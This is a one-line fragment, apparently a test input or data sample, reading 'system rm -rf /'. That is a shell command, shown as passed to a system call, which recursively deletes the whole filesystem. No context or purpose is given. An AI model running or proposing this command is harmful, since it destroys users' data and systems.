system rm -rf /
